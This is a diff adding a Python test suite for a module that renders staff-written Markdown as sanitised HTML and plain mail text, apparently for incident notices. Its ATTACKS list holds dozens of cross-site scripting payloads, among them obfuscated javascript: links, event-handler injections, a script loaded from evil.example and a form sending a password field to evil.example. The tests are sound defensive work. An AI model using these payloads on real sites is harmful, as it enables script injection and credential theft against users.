@@ -1,0 +1,266 @@
+"""Staff's Markdown as safe HTML and as text for mail; the corpus tests our module, not the libraries behind it."""
+
+import re
+from html.parser import HTMLParser
+from textwrap import dedent
+from urllib.parse import urlsplit
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from incidents import markup
+
+TAGS = set("p br strong em ul ol li a code pre blockquote h3 h4 table thead tbody tr th td".split())
+
+
+class Inspector(HTMLParser):
+    """Notes everything in a piece of HTML that must never reach a reader."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__(convert_charrefs=True)
+        self.faults: list[str] = []
+        self.feed(html)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        if tag not in TAGS:
+            self.faults.append(f"tag {tag}")
+        self.faults += [f"{tag} {name}={value}" for name, value in attrs if not self.is_fine(tag, name, value or "")]
+        if tag == "a" and "href" in dict(attrs) and dict(attrs).get("rel") != "noopener noreferrer nofollow":
+            self.faults.append("link without rel")
+
+    def is_fine(self, tag: str, name: str, value: str) -> bool:
+        if (tag, name) == ("a", "href"):
+            return urlsplit(value).scheme in {"http", "https", "mailto"}
+        return (tag, name) == ("a", "rel") or ((tag, name) == ("ol", "start") and value.isdigit())
+
+    def handle_comment(self, data: str) -> None:
+        self.faults.append(f"comment {data}")
+
+    def handle_decl(self, decl: str) -> None:
+        self.faults.append(f"declaration {decl}")
+
+    def handle_pi(self, data: str) -> None:
+        self.faults.append(f"instruction {data}")
+
+
+ATTACKS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<iframe src='javascript:alert(1)'></iframe>",
+    "<details open ontoggle=alert(1)>",
+    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "<style>@import 'https://evil.example'</style>",
+    "<p style='background:url(https://evil.example/x.png)'>x</p>",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<![CDATA[<img src=x onerror=alert(1)>]]>",
+    "<?php echo 1 ?>",
+    "<form action=https://evil.example><input name=password></form>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<table><td background=javascript:alert(1)>",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](java\tscript:alert(1))",
+    "[x](java\nscript:alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x](\x01javascript:alert(1))",
+    "[x]( javascript:alert(1))",
+    "[x](vbscript:msgbox(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    "[x](//evil.example/x)",
+    "[x](\\\\evil.example\\x)",
+    "[x](file:///etc/passwd)",
+    "[x](https://evil.example \"onmouseover=alert(1)\")",
+    "[x](https://a.example/\"onmouseover=alert(1)//)",
+    "[x](<javascript:alert(1)>)",
+    "[x][1]\n\n[1]: javascript:alert(1)",
+    "<javascript:alert(1)>",
+    "![x](https://evil.example/x.png)",
+    "![x](javascript:alert(1))",
+    "![x\" onerror=\"alert(1)](x)",
+    "![x](x \"onerror=alert(1)\")",
+    "`<script>alert(1)</script>`",
+    "```<script>\nalert(1)\n```",
+    "``` {onclick=alert(1)}\nx\n```",
+    "# x {: onclick=alert(1)}",
+    "| <script> |\n|---|\n| <img src=x onerror=alert(1)> |",
+    "[x](https://[evil)",
+    "http://evil.example\"onmouseover=alert(1)",
+    "\x02klzzwxh:0000\x03",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_attack_reaches_no_reader(attack: str) -> None:
+    html = markup.html(f"Before {attack} after\n\n{attack}\n\n- {attack}\n\n> {attack}")
+    assert Inspector(html).faults == []
+    assert "<script" not in html.lower()
+
+
+PIECES = st.sampled_from([
+    "<", ">", "&", '"', "'", "`", "```", "*", "**", "_", "[", "](", ")", "![", "\n", "\n\n", "    ", "- ", "1. ",
+    "> ", "# ", "|", "---", "\\", ":", "//", "javascript:", "https://a.example", "mailto:", "data:", "onclick=",
+    "<script>", "</p>", "<a href=", "<!--", "&#x6a;", "\x00", "\x02", "\x03", "\ud800", "\u202e", "æ", "x",
+])  # fmt: skip
+
+
+@settings(max_examples=150, deadline=None)
+@given(st.one_of(st.lists(PIECES, max_size=40).map("".join), st.text(max_size=200)))
+def test_any_text_becomes_allowed_html_and_plain_text(source: str) -> None:
+    html, text = markup.html(source), markup.plain(source)
+    assert Inspector(html).faults == []
+    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\ud800-\udfff\ufffe\uffff]", html)
+    (html + text).encode()
+
+
+def test_typed_html_is_shown_as_typed() -> None:
+    assert markup.html("a <b>c</b>") == "<p>a &lt;b&gt;c&lt;/b&gt;</p>"
+    assert markup.plain("a <b>c</b> & d") == "a <b>c</b> & d"
+
+
+def test_picture_becomes_a_link() -> None:
+    assert markup.plain("![Kurve](https://a.example/x.png)") == "Kurve (https://a.example/x.png)"
+
+
+def test_headings_begin_below_the_pages_own() -> None:
+    assert markup.html("# One\n\n## Two\n\n###### Six") == "<h3>One</h3>\n<h4>Two</h4>\n<h4>Six</h4>"
+
+
+def test_line_break_stays_a_line_break() -> None:
+    assert markup.html("a\nb") == "<p>a<br>\nb</p>"
+
+
+def test_list_needs_no_blank_line_before_it() -> None:
+    assert markup.plain("Ikke berørt:\n- mail\n- web") == "Ikke berørt:\n\n- mail\n- web"
+    assert markup.html("```\ntekst\n- ikke en liste\n```").startswith("<pre><code>tekst\n- ikke en liste")
+
+
+def test_numbers_of_a_list_are_kept() -> None:
+    assert markup.html("3. c\n4. d").startswith('<ol start="3">')
+    assert markup.plain("3. c\n4. d") == "3. c\n4. d"
+
+
+def test_rule_is_seen() -> None:
+    assert markup.plain("a\n\n---\n\nb") == "a\n\n* * *\n\nb"
+
+
+def test_address_becomes_a_link_and_a_file_name_does_not() -> None:
+    html = markup.html("Se https://a.example/x?a=1&b=2. Kør backup.sh, læs README.md på www.b.example")
+    assert re.findall('href="([^"]*)"', html) == ["https://a.example/x?a=1&amp;b=2", "https://www.b.example"]
+
+
+def test_address_in_code_stays_code() -> None:
+    assert markup.html("`https://a.example`") == "<p><code>https://a.example</code></p>"
+
+
+@pytest.mark.parametrize(
+    ("source", "text"),
+    [
+        ("[Status](https://a.example/x)", "Status (https://a.example/x)"),
+        ("[https://a.example](https://a.example)", "https://a.example"),
+        ("www.a.example", "www.a.example"),
+        ("[skriv](mailto:hjaelp@a.example)", "skriv (hjaelp@a.example)"),
+        ("[hjaelp@a.example](mailto:hjaelp@a.example)", "hjaelp@a.example"),
+        ("[x](javascript:alert(1))", "x"),
+    ],
+)
+def test_links_in_plain_text_say_their_address_once(source: str, text: str) -> None:
+    assert markup.plain(source) == text
+
+
+def test_plain_text_reads_well_in_a_mail() -> None:
+    source = """
+        # Hvad skete der?
+        Mail til **Microsoft 365** blev *forsinket*.
+        Se [status](https://a.example).
+
+        - først
+        - så
+            1. det ene
+            2. det andet
+
+                mere om det andet
+        - til sidst
+
+        | Tid | Hændelse |
+        |---|---|
+        | 14.12 | Sikringen går |
+        | 9.05 | Strøm |
+
+        > **Impact:** Some users
+        > worldwide.
+        >
+        > - one
+        >
+        > > inner
+
+        ```
+        451 4.7.500
+            Server  busy
+
+
+        slut
+        ```
+        Slut.
+    """
+    expected = """
+        Hvad skete der?
+
+        Mail til Microsoft 365 blev forsinket.
+        Se status (https://a.example).
+
+        - først
+        - så
+          1. det ene
+          2. det andet
+
+             mere om det andet
+        - til sidst
+
+        Tid    Hændelse
+        14.12  Sikringen går
+        9.05   Strøm
+
+        > Impact: Some users
+        > worldwide.
+        >
+        > - one
+        >
+        > > inner
+
+        451 4.7.500
+            Server  busy
+
+
+        slut
+
+        Slut.
+    """
+    assert markup.plain(dedent(source)) == dedent(expected).strip()
+
+
+def test_paragraphs_of_a_list_stay_with_their_item() -> None:
+    assert markup.plain("- a\n\n- b\n\n    mere b\n\n- c") == "- a\n- b\n\n  mere b\n- c"
+
+
+def test_nothing_becomes_nothing() -> None:
+    assert markup.html("") == ""
+    assert markup.plain(" \n") == ""
+
+
+def test_clean_leaves_text_alone_and_takes_what_xml_cannot_carry() -> None:
+    assert markup.clean("æøå 🚧\tx\r\ny\rz") == "æøå 🚧\tx\ny\nz"
+    assert markup.clean("a\x00\x0b\ufffe\ud800b") == "ab"
+
+
+def test_long_text_of_one_character_does_not_hold_up_publishing() -> None:
+    """Nesting beyond any use ends in text, not in a RecursionError."""
+    for source in (">" * 2000, "> " * 2000, "\n".join("    " * depth + "- x" for depth in range(120))):
+        assert Inspector(markup.html(source)).faults == []
+        assert markup.plain(source)
